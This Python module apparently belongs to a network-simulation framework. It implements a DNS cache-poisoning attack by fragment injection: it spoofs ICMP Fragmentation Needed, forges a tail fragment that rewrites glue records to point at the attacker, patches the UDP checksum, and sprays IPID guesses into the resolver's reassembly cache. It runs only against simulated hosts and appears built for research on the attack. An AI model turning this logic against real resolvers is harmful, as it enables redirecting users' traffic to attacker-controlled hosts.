"""Fragment injection: force fragmentation, then pre-plant a forged tail fragment.

Per attempt the attacker

1. (first attempt only) spoofs an ICMP Fragmentation Needed to the
   nameserver, quoting a nameserver-to-resolver packet, so replies to the
   resolver are cut at ``mtu``;
2. queries the nameserver itself to learn the response bytes and, with a
   global counter, the current IPID;
3. rewrites the target glue records in the last fragment and fixes one
   TTL word so the fragment's ones'-complement sum equals the genuine one;
4. plants that fragment under ``window`` IPID guesses in the resolver's
   defragmentation cache;
5. triggers the lookup.
"""

from __future__ import annotations

import itertools
import string
from functools import lru_cache

from ..netmodel import (
    PROTO_UDP,
    Batch,
    DnsMessage,
    Fragment,
    IcmpKind,
    IcmpMessage,
    QType,
    ReassemblyBuffer,
    SimPacket,
    fragment_payload_size,
    icmp_packet,
    ones_sum,
    quote_of,
    split_name,
    udp_packet,
)
from ..scenario import build_world, compile_scenario, qtype_code
from ..simcore import NS_PER_SEC, seconds
from .common import AttackerHost, AttackerKnowledge, FailureReason, PreconditionError, TrialResult, collect_result

SAMPLE_EDNS = 4096
LABEL_CHARS = string.ascii_lowercase + string.digits
MAX_CANDIDATES = 1024


def random_label(rng, length: int) -> str:
    """Uniform lower-case alphanumeric label, twelve characters per draw."""
    out = []
    while length > 0:
        n = min(12, length)
        v = rng.uniform_int(0, len(LABEL_CHARS) ** n - 1)
        for _ in range(n):
            v, r = divmod(v, len(LABEL_CHARS))
            out.append(LABEL_CHARS[r])
        length -= n
    return "".join(out)


def rrset_rotations(msg: DnsMessage) -> list[DnsMessage]:
    """Every message obtainable by rotating each RRset of ``msg``."""
    sections = []
    for recs in (msg.answer, msg.authority, msg.additional):
        groups = [list(g) for _, g in itertools.groupby(recs, key=lambda r: (r.name.lower(), r.rtype))]
        options = [[g[k:] + g[:k] for k in range(len(g))] for g in groups]
        sections.append(options)
    flat = [opts for sec in sections for opts in sec]
    out = []
    for combo in itertools.product(*flat):
        it = iter(combo)
        rebuilt = []
        for sec in sections:
            recs = []
            for _ in sec:
                recs += next(it)
            rebuilt.append(recs)
        out.append(DnsMessage(msg.txid, msg.is_response, msg.qname, msg.qtype, rebuilt[0], rebuilt[1],
                              rebuilt[2], msg.edns_udp_size, msg.rcode, msg.tc, msg.aa, msg.rd, msg.ra))
        if len(out) >= MAX_CANDIDATES:
            break
    return out


def craft_tail(dns_bytes: bytes, offsets: list[int], records: list, target: str, mtu: int,
               attacker_rdata: bytes) -> tuple[int, bytes] | FailureReason:
    """Forge the last fragment of the UDP datagram carrying ``dns_bytes``.

    Returns ``(start, data)`` where ``start`` is the byte offset of the last
    fragment within the datagram, or a failure reason.
    """
    dgram_len = 8 + len(dns_bytes)
    step = fragment_payload_size(mtu)
    if dgram_len <= step:
        return FailureReason.NOT_FRAGMENTED
    start = (dgram_len - 1) // step * step
    tail = bytearray(dns_bytes[start - 8:])
    genuine = ones_sum(bytes(tail))
    hits = [off + 8 - start for rr, off in zip(records, offsets)
            if rr.rtype == QType.A and rr.name.lower() == target and off + 8 >= start
            and len(rr.rdata) == len(attacker_rdata)]
    if not hits:
        return FailureReason.TARGET_NOT_IN_FRAGMENT
    for pos in hits:
        tail[pos:pos + len(attacker_rdata)] = attacker_rdata
    ttl = hits[-1] - 6  # TTL precedes RDLENGTH, which precedes the rdata
    tail[ttl:ttl + 4] = b"\0\0\0\0"
    # even alignment within the datagram equals even alignment within the tail
    word = ttl + 2 if ttl % 2 == 0 else ttl + 1
    fix = (genuine - ones_sum(bytes(tail))) % 0xFFFF
    tail[word:word + 2] = fix.to_bytes(2, "big")
    return start, bytes(tail)


def normalise_wire(wire: bytes, keep_labels: int) -> bytes:
    """Zero the TXID and overwrite the random query-name labels with 'a'.

    The last ``keep_labels`` labels (the zone) are left alone.  The forged
    tail never covers the question, so responses that differ only there
    share one set of candidate tails.
    """
    out = bytearray(wire)
    out[0:2] = b"\0\0"
    starts = []
    pos = 12
    while out[pos]:
        starts.append(pos)
        pos += out[pos] + 1
    for p in starts[:max(0, len(starts) - keep_labels)]:
        n = out[p]
        out[p + 1:p + 1 + n] = b"a" * n
    return bytes(out)


@lru_cache(maxsize=256)
def candidate_tails(wire: bytes, mtu: int, target: str, attacker_rdata: bytes,
                    know_order: bool) -> tuple | FailureReason:
    """Distinct forged tails for every record order the nameserver may send."""
    sample = DnsMessage.decode(wire)
    cands = rrset_rotations(sample) if know_order else [sample]
    tails = []
    for msg in cands:
        body, offsets = msg.encode_with_offsets()
        crafted = craft_tail(body, offsets, msg.records(), target, mtu, attacker_rdata)
        if isinstance(crafted, FailureReason):
            return crafted
        tails.append(crafted)
    return tuple(dict.fromkeys(tails))


class FragDnsAttack:
    def __init__(self, world, attacker: AttackerHost):
        self.world = world
        self.host = attacker
        attacker.strategy = self
        comp = world.compiled
        self.cfg = comp.attacker
        self.target_cfg = comp.target
        self.trigger = comp.trigger
        self.zone = comp.zone.name
        self.zone_labels = len(split_name(self.zone))
        self.ns_ip = world.ips["nameserver"]
        self.resolver_ip = world.ips["resolver"]
        self.glue_name = comp.zone.ns_hosts[0] if comp.zone.ns_hosts else None
        self.policy = comp.nameserver_config.ipid_policy
        lam = self.cfg.get("lambda_estimate")
        self.lam = comp.nameserver_config.cross_traffic_rate if lam is None else float(lam)
        self.knowledge = AttackerKnowledge()
        self.attempts = 0
        self.queries = 0
        self.reason: FailureReason | None = None
        self.finished = False
        self._sample = None  # (sport, txid, sent_at)
        self._defrag = ReassemblyBuffer(capacity=8)
        self.qtype = qtype_code(self.target_cfg["qtype"])
        if self.glue_name is None:
            raise PreconditionError("zone has no in-zone nameserver glue to poison")

    # -- attempt loop -----------------------------------------------------
    def start(self) -> None:
        self.host.set_timer(0, self._attempt)

    def _finish(self, reason: FailureReason | None = None) -> None:
        if not self.finished:
            self.finished = True
            if reason is not None:
                self.reason = reason
            self.world.engine.stop()

    def _attempt(self) -> None:
        if self.finished or self.world.success:
            return
        if self.attempts >= int(self.cfg["max_triggers"]):
            self._finish()
            return
        now = self.host.now
        fire = self.trigger.fire_time(now)
        lead = seconds(1)
        if fire - now > lead:
            self.host.set_timer_at(fire - lead, self._attempt)
            return
        self.attempts += 1
        rng = self.host.rng
        if self.attempts == 1:
            self._send_frag_needed()
        qname = self._random_qname(rng)
        sport = rng.uniform_int(1024, 65535)
        txid = rng.uniform_int(0, 0xFFFF)
        self._sample = (sport, txid, now)
        q = DnsMessage(txid, False, qname, self.qtype, edns_udp_size=SAMPLE_EDNS, rd=False)
        self.host.send(udp_packet(self.host.ip, self.ns_ip, sport, 53, q.encode()))
        self.host.set_timer(seconds(float(self.cfg["attempt_timeout_s"])), self._sample_lost, self.attempts)

    def _sample_lost(self, attempt: int) -> None:
        if self._sample is not None and attempt == self.attempts:
            self._sample = None
            self._attempt()

    def _random_qname(self, rng) -> str:
        labels = [random_label(rng, int(self.target_cfg["label_length"]))]
        labels += [random_label(rng, 63) for _ in range(int(self.target_cfg.get("bloat_labels", 0)))]
        name = ".".join(labels + [self.zone])
        # keep within the 255-byte wire limit by trimming bloat labels
        while len(name) + 2 > 255 and len(labels) > 1:
            labels.pop()
            name = ".".join(labels + [self.zone])
        return name

    def _send_frag_needed(self) -> None:
        fake = udp_packet(self.ns_ip, self.resolver_ip, 53, 33333, bytes(512))
        msg = IcmpMessage(IcmpKind.FRAGMENTATION_NEEDED, mtu=int(self.cfg["mtu"]), quoted=quote_of(fake))
        self.host.send(icmp_packet(self.host.ip, self.ns_ip, msg))

    # -- packets ------------------------------------------------------------
    def on_packet(self, unit) -> None:
        if isinstance(unit, Fragment):
            unit = self._defrag.insert(unit, self.host.now)
            if unit is None:
                return
        if not isinstance(unit, SimPacket) or unit.protocol != PROTO_UDP or unit.src_ip != self.ns_ip:
            return
        if self._sample is None:
            return
        sport, txid, sent_at = self._sample
        data = unit.payload
        if len(data) < 20 or (data[2] << 8 | data[3]) != sport or (data[8] << 8 | data[9]) != txid:
            return
        self._sample = None
        if data[10] & 0x02:  # TC: the nameserver would not send it whole
            self._finish(FailureReason.NOT_FRAGMENTED)
            return
        self.knowledge.sampled_response = bytes(data[8:])
        rtt = self.host.now - sent_at
        self._plant_and_trigger(self.knowledge.sampled_response, unit.ipid, emitted_at=self.host.now - rtt // 2, rtt=rtt)

    def _plant_and_trigger(self, sample_wire: bytes, observed_ipid: int, emitted_at: int, rtt: int) -> None:
        rng = self.host.rng
        crafted = candidate_tails(normalise_wire(sample_wire, self.zone_labels), int(self.cfg["mtu"]), self.glue_name,
                                  self.host.ip.to_bytes(4, "big"), bool(self.cfg.get("know_order", True)))
        if isinstance(crafted, FailureReason):
            self._finish(crafted)
            return
        self.knowledge.predicted_second_fragments = [(t[1], 1.0 / len(crafted)) for t in crafted]
        start, data = crafted[rng.uniform_int(0, len(crafted) - 1)] if len(crafted) > 1 else crafted[0]

        fire = self.trigger.fire_time(self.host.now)
        guesses = self._ipid_guesses(observed_ipid, fire + rtt - emitted_at, rng)
        frags = [Fragment(self.ns_ip, self.resolver_ip, PROTO_UDP, g, start // 8, False, data) for g in guesses]
        self.host.send(Batch(frags, self.resolver_ip))
        qname = self._random_qname(rng)
        try:
            when = self.world.client.trigger(self.trigger, qname, self.qtype)
        except ValueError:
            self._finish(FailureReason.TRIGGER_REFUSED)
            return
        self.queries += 1
        timeout = seconds(float(self.cfg["attempt_timeout_s"]))
        self.host.set_timer_at(when + timeout, self._attempt)

    def _ipid_guesses(self, observed: int, gap: int, rng) -> list[int]:
        w = int(self.cfg["window"])
        if self.policy == "global":
            centre = observed + 1 + round(self.lam * gap / NS_PER_SEC)
            lo = centre - w // 2
            return [(lo + i) & 0xFFFF for i in range(w)]
        return rng.sample_distinct(0, 0xFFFF, w)


def _reason(world, attack: FragDnsAttack) -> FailureReason:
    if attack.reason is not None:
        return attack.reason
    if world.nameserver.stats["truncated"]:
        return FailureReason.EDNS_TOO_SMALL
    return FailureReason.NOT_POISONED


def run_compiled(compiled, trial: int) -> TrialResult:
    world = build_world(compiled, trial)
    host = AttackerHost(world.ips["attacker"])
    world.add_attacker(host)
    attack = FragDnsAttack(world, host)
    attack.start()
    world.engine.run()
    return collect_result(world, host, attack.attempts, attack.queries, _reason(world, attack))


def run_fragdns(scenario, trial: int = 0) -> TrialResult:
    """One fragment-injection trial of ``scenario``."""
    if scenario.method != "frag":
        raise PreconditionError(f"scenario method is {scenario.method!r}, not 'frag'")
    return run_compiled(compile_scenario(scenario), trial)
